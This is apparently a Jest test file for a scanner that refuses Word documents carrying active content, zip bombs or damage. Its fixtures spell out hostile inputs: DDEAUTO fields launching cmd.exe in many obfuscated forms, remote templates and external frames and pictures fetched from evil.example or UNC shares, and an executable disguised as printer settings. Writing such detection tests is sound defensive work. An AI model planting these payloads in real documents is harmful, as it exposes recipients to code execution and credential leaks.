import { describe, expect, test } from '@jest/globals'
import {
  compoundFile,
  contentType,
  packed,
  pdfFile,
  relation,
  relations,
  wordFile,
  wordParts,
} from '../../tests/testing/office-files.ts'
import { findInDoc } from './doc.ts'
import { findInDocx } from './docx.ts'

const MEGABYTE = 1_024 * 1_024
const SETTINGS = 'word/_rels/settings.xml.rels'
const TYPES = '[Content_Types].xml'
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const OLE = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
const MACROS = 'application/vnd.ms-word.document.macroEnabled.main+xml'

const types = (type: string) => `<Types>${contentType('/word/document.xml', type)}</Types>`
const template = (target: string) =>
  wordFile({ [SETTINGS]: relations(relation('attachedTemplate', target, 'External')) })
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])

const externally = (type: string, target: string) =>
  wordFile({ [SETTINGS]: relations(relation(type, target, 'External')) })
const field = (...codes: readonly string[]) => `${mark('begin')}${codes.join('')}${mark('separate')}${mark('end')}`
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const code = (text: string) => `<w:r><w:rPr/><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
const body = (...inner: readonly string[]) =>
  `<?xml version="1.0"?><w:document><w:p>${inner.join('')}</w:p></w:document>`
const withText = (...inner: readonly string[]) => wordFile({ 'word/document.xml': body(...inner) })
const DDE = 'DDEAUTO c:\\windows\\cmd.exe "/k calc"'

describe('a DOCX is accepted', () => {
  test.each<[string, Buffer]>([
    ['with a link, a picture and a template of its author', wordFile()],
    ['with a template by its name', template('Resume.dotx')],
    ['with a template of a Mac', template('file://localhost/Users/ann/Resume.dotx')],
    ['with its parts in UTF-16', wordFile({ [SETTINGS]: utf16(relations(relation('image', 'a.png'))) })],
    [
      'with a link, whose words are those of other fields',
      withText(field(code('HYPERLINK "https://a.example/DDE LINK"'))),
    ],
    ['with the number of its pages', withText(field(code(' PAGE '), code('\\* MERGEFORMAT')))],
    ['with fields in fields', withText(field(code('IF '), field(code('PAGE')), code(' = 1 "LINK"')))],
    ['with a formula of a field', withText(field(code('='), field(code('PAGE')), code('-1')))],
    ['with a simple field', withText('<w:fldSimple w:instr=" DATE \\@ &quot;d MMM&quot; "><w:r/></w:fldSimple>')],
    ['with a place to type in', withText(field(code('MACROBUTTON NoMacro [Your name]')))],
    ['that speaks of DDEAUTO', withText('<w:t>DDEAUTO and INCLUDETEXT</w:t>', field(code('PAGE')))],
    [
      'with the printer of a Mac',
      wordFile({ 'word/printerSettings/printerSettings1.bin': '<?xml version="1.0"?><plist/>' }),
    ],
    ['with the printer of a PC', wordFile({ 'word/printerSettings1.bin': Buffer.alloc(200, 1) })],
    ['with a template of Word 2011 for Mac', template('Macintosh%20HD:Users:ann:Library:Resume.dotx')],
    ['with a template of Word for Mac by its path', template('file:////Users/ann/Library/Resume.dotx')],
    ['with a template on another disk of a Mac', template('file:////Volumes/Disk%201/Resume.dotx')],
    ['with a picture that is a PDF', wordFile({ 'word/media/image2.pdf': pdfFile() })],
    ['with a pasted picture', withText(field(code('INCLUDEPICTURE "/var/folders/x1/image.png" \\* MERGEFORMATINET')))],
    ['with a picture of its author’s disk', withText(field(code('INCLUDEPICTURE \\d "C:\\\\Users\\\\ann\\\\a.png"')))],
    ['with the address of a pasted picture', externally('image', 'file:////var/folders/x1/image.png')],
    ['with a drawn line', withText('<v:shape href="https://ann.example"><v:stroke src=""/></v:shape>')],
    [
      'with the type of a part that is not there',
      wordFile({ [TYPES]: types(WORD).replace('<Override', `${OLE}<Override`) }),
    ],
    ['with what a Mac leaves in archives', wordFile({ '.DS_Store': 'x', 'word/': '' })],
    ['of 60 MB unpacked', wordFile({ 'word/media/image2.bmp': Buffer.alloc(60 * MEGABYTE) })],
  ])('%s', async (_, bytes) => {
    expect(await findInDocx(bytes)).toBeUndefined()
  })
})

describe('a DOCX with active content is refused', () => {
  test.each<[string, Buffer]>([
    ['with macros', wordFile({ 'word/vbaProject.bin': 'x' })],
    ['with macros under another name', wordFile({ 'word/x.xml': Buffer.from('\xd0\xcf\x11\xe0', 'latin1') })],
    ['with the type of a document with macros', wordFile({ [TYPES]: types(MACROS) })],
    [
      'with the type of a document with macros written in codes',
      wordFile({ [TYPES]: types(MACROS.replace('m', '&#109;').replace('E', '&#x45;')) }),
    ],
    ['with the type of a document with macros in UTF-16', wordFile({ [TYPES]: utf16(types(MACROS)) })],
    ['with an embedded object', wordFile({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['with an embedded sheet', wordFile({ 'word/embeddings/a.xlsx': 'x' })],
    ['with an archive in it', wordFile({ 'word/media/image2.png': packed({ a: 'b' }) })],
    ['with ActiveX', wordFile({ 'word/activeX/activeX1.xml': '<x/>' })],
    ['with a template from elsewhere', template('https://evil.example/t.dotm')],
    ['with a template from elsewhere, written in codes', template('&#104;ttp://evil.example/t.dotm')],
    ['with a template from a share', template('\\\\evil.example\\share\\t.dotm')],
    ['with a template from a share by address', template('file://evil.example/share/t.dotm')],
    ['with a template from a share with four slashes', template('file:////evil.example/share/t.dotm')],
    ['with a template from a share in codes of codes', template('file:%252f%252fevil.example/t.dotm')],
    ['with a template from a device path', template('\\\\?\\UNC\\evil.example\\t.dotm')],
    ['with a frame from elsewhere', externally('frame', 'https://evil.example/a')],
    ['with the data of a mail merge from elsewhere', externally('mailMergeSource', 'https://evil.example/a')],
    ['with an object that is linked', externally('oleObject', 'file:///C:\\a.xlsx')],
    ['with a drawn picture from elsewhere', withText('<v:imagedata src="http://evil.example/a.png"/>')],
    ['with a pasted picture from a share', withText(field(code('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a" \\d')))],
    [
      'with a switch before the address of a picture',
      withText(field(code('INCLUDEPICTURE \\d http://evil.example/a'))),
    ],
    ['with a picture whose path is made by a field', withText(field(code('INCLUDEPICTURE '), field(code('QUOTE 1'))))],
    ['with a picture that is a PDF with a script', wordFile({ 'word/media/image2.pdf': pdfFile('/AA<</O 5 0 R>>') })],
    ['with a program for a printer', wordFile({ 'word/printerSettings1.bin': 'MZ' })],
    ['with a template from a share in disguise', template('file:///%5c%5cevil.example\\t.dotm')],
    [
      'with a picture from elsewhere',
      wordFile({ [SETTINGS]: relations(relation('image', 'http://x.example/a.png', 'External')) }),
    ],
    ['with a field that starts a program', withText(field(code(DDE)))],
    ['with a DDE field in lower case', withText(field(code(` ${DDE.toLowerCase()}`)))],
    ['with a DDE field in pieces', withText(field(...[...DDE].map((letter) => code(letter))))],
    ['with a DDE field in codes', withText(field(code(DDE.replace('D', '&#68;').replace('E', '&#x45;'))))],
    ['with a DDE field around an instruction', withText(field(code(DDE.replace('E', '<?a b?>E'))))],
    ['with a DDE field that is literal text', withText(field(code(`<![CDATA[${DDE}]]>`)))],
    ['with a DDE field beside an attribute of its name', withText(`<w:fldSimple w:instr='${DDE}' x:instr='PAGE'/>`)],
    [
      'with a picture from elsewhere beside an attribute of its name',
      withText('<v:imagedata o:href="http://evil.example/a.png" r:href="rId5"/>'),
    ],
    [
      'with a template from elsewhere beside the type of a link',
      wordFile({
        [SETTINGS]: relations(
          relation('attachedTemplate', 'https://evil.example/t.dotm').replace('/>', ' x:Type="a/hyperlink"/>'),
        ),
      }),
    ],
    ['with a DDE field around a comment', withText(field(code(DDE.replace('E', '<!-- -->E'))))],
    ['with a DDE field under another namespace', withText(field(code(DDE)).replaceAll('w:', 'x:'))],
    ['with a deleted DDE field', withText(field(code(DDE)).replaceAll('instrText', 'delInstrText'))],
    ['with a DDE field without an end', withText(mark('begin'), code(DDE))],
    ['with a DDE field without a beginning', withText(code(DDE), mark('end'))],
    ['with a DDE field in another field', withText(field(code('IF 1 = 1 '), field(code(DDE))))],
    ['with a DDE field whose name is made by a field', withText(field(code('DDE'), field(code('QUOTE 65 85 84 79'))))],
    ['with a DDE field whose name is a field', withText(field(field(code('QUOTE 68 68 69')), code(' cmd')))],
    [
      'with a field whose name is in a simple field',
      withText(mark('begin'), '<w:fldSimple w:instr="QUOTE 68 68 69"/>'),
    ],
    ['with a simple DDE field', withText(`<w:fldSimple w:instr='${DDE}'/>`)],
    ['with a DDE field in UTF-16', wordFile({ 'word/document.xml': utf16(body(field(code(DDE)))) })],
    ['with a DDE field in a header', wordFile({ 'word/header1.xml': body(field(code(DDE))) })],
    ['with a DDE field in a footer', wordFile({ 'word/footer2.xml': body(field(code(DDE))) })],
    ['with a DDE field in a part of any name', wordFile({ 'word/media/image2.png': body(field(code(DDE))) })],
    ...['DDE', 'LINK', 'INCLUDEPICTURE', 'INCLUDETEXT', 'INCLUDE', 'IMPORT', 'DATABASE'].map(
      (name): [string, Buffer] => [`with ${name}`, withText(field(code(`${name} "http://evil.example/a" \\d`)))],
    ),
  ])('%s', async (_, bytes) => {
    expect(await findInDocx(bytes)).toBe('active')
  })
})

describe('a DOCX is refused', () => {
  const zeros = Buffer.alloc(65 * MEGABYTE)
  const sound = wordFile()
  const local = sound.lastIndexOf('word/document.xml', sound.length - 400)
  const renamed = Buffer.from(sound)
  renamed.write('W', local, 'latin1')
  const encrypted = Buffer.from(sound)
  encrypted.writeUInt16LE(1, encrypted.indexOf('PK\x01\x02') + 8)
  const end = sound.length - 22
  const changed = (at: number, value: number) => {
    const copy = Buffer.from(sound)
    copy.writeUInt16LE(value, at)
    return copy
  }
  const commented = Buffer.concat([changed(end + 20, 22), sound.subarray(end)])
  test.each<[string, string, Buffer]>([
    ['whose comment holds another end of the directory', 'damaged', commented],
    ['that counts its parts twice, differently', 'damaged', changed(end + 8, 1)],
    ['that is one disk of several', 'damaged', changed(end + 4, 1)],
    ['with a part that is packed in two ways', 'damaged', changed(8, 0)],
    ['with a part that is encrypted where it stands', 'locked', changed(6, 1)],
    ['that unpacks to more than 64 MB', 'bomb', wordFile({ 'word/media/image2.bmp': zeros })],
    [
      'that unpacks to more than 64 MB in several parts',
      'bomb',
      wordFile({ 'a.xml': zeros.subarray(0, 33 * MEGABYTE), 'b.xml': zeros.subarray(0, 33 * MEGABYTE) }),
    ],
    [
      'that unpacks to more than 64 MB, whatever its directory says',
      'damaged',
      packed({ 'a.xml': zeros, ...wordParts() }, 10),
    ],
    [
      'of a thousand parts and more',
      'bomb',
      wordFile(Object.fromEntries(Array.from({ length: 1_000 }, (_, at) => [`${at}.xml`, '']))),
    ],
    ['with more text than anybody writes', 'bomb', withText(' '.repeat(17 * MEGABYTE))],
    [
      'with more text than anybody writes, in parts',
      'bomb',
      wordFile({
        'word/a.xml': `<a>${' '.repeat(9 * MEGABYTE)}</a>`,
        'word/b.xml': `<b>${' '.repeat(9 * MEGABYTE)}</b>`,
      }),
    ],
    [
      'with more pictures that are PDFs than anybody has',
      'bomb',
      wordFile({ 'word/a.pdf': Buffer.concat([pdfFile(), zeros.subarray(0, 17 * MEGABYTE)]) }),
    ],
    ['with an instruction that does not end', 'damaged', withText(field('<?a'))],
    ['with a field mark that does not exist', 'damaged', withText(mark('middle'))],
    ['whose directory tells another size', 'damaged', packed({ ...wordParts() }, 2)],
    ['whose directory tells another name', 'damaged', renamed],
    ['with a DDE field name twice', 'damaged', wordFile({ 'WORD/document.xml': 'x' })],
    ['that is encrypted', 'locked', encrypted],
    ['with a declaration', 'damaged', wordFile({ [SETTINGS]: '<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>' })],
    [
      'in another alphabet',
      'damaged',
      wordFile({ [SETTINGS]: '<?xml version="1.0" encoding="utf-7"?><Relationships/>' }),
    ],
    ['with an attribute twice', 'damaged', wordFile({ [SETTINGS]: '<Relationship Target="a" Target="http://b"/>' })],
    ['with a tag that does not end', 'damaged', wordFile({ [SETTINGS]: '<Relationship Target="a' })],
    [
      'with the types of a spreadsheet only',
      'archive',
      wordFile({ [TYPES]: types('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml') }),
    ],
    ['without types', 'archive', packed({ 'word/document.xml': 'x' })],
    ['of OpenDocument', 'odt', packed({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<x/>' })],
    ['of Pages', 'pages', packed({ 'Index/Document.iwa': 'x', 'preview.jpg': 'x' })],
    ['of Excel', 'sheet', packed({ [TYPES]: '<Types/>', 'xl/workbook.xml': '<x/>' })],
    ['of PowerPoint', 'slides', packed({ [TYPES]: '<Types/>', 'ppt/presentation.xml': '<x/>' })],
    ['whose text is a web page', 'chunk', wordFile({ 'word/afchunk.mht': 'MIME-Version: 1.0' })],
    ['whose text is another document', 'chunk', wordFile({ [SETTINGS]: relations(relation('aFChunk', 'a.xml')) })],
    ['whose text is elsewhere', 'chunk', externally('aFChunk', 'https://evil.example/a.html')],
    ['that is cut off', 'damaged', sound.subarray(0, -30)],
    ['that is empty', 'archive', packed({})],
  ])('%s', async (_, danger, bytes) => {
    expect(await findInDocx(bytes)).toBe(danger)
  })
})

describe('a DOC file', () => {
  test('is accepted with the streams of every document', () => {
    expect(findInDoc(compoundFile('1Table', 'WordDocument', 'Data', '\u0005SummaryInformation'))).toBeUndefined()
  })

  test.each(['Macros', '_VBA_PROJECT', 'VBA', 'ObjectPool', '\u0001Ole10Native'])(
    'has active content with %j',
    (entry) => {
      expect(findInDoc(compoundFile('WordDocument', entry))).toBe('active')
    },
  )

  test('is refused without a document in it', () => {
    expect(findInDoc(compoundFile('Workbook'))).toBe('sheet')
    expect(findInDoc(Buffer.from('\xd0\xcf\x11\xe0', 'latin1'))).toBe('unknown')
  })

  test('is recognized if it needs a password or is from an old version of Word', () => {
    const head = (version: number, flags: number) => {
      const file = Buffer.concat([compoundFile('WordDocument'), Buffer.alloc(1_024)])
      const at = 3_584
      // The entry after the root has the first sector of its stream.
      file.writeUInt32LE(at / 512 - 1, 1_024 + 128 + 116)
      file.writeUInt16LE(0xa5ec, at)
      file.writeUInt16LE(version, at + 2)
      file.writeUInt16LE(flags, at + 10)
      return findInDoc(file)
    }
    expect([head(0xc1, 0), head(0xc1, 0x100), head(0x68, 0)]).toEqual([undefined, 'locked', 'oldWord'])
    expect(findInDoc(compoundFile('EncryptionInfo', 'EncryptedPackage'))).toBe('locked')
  })
})
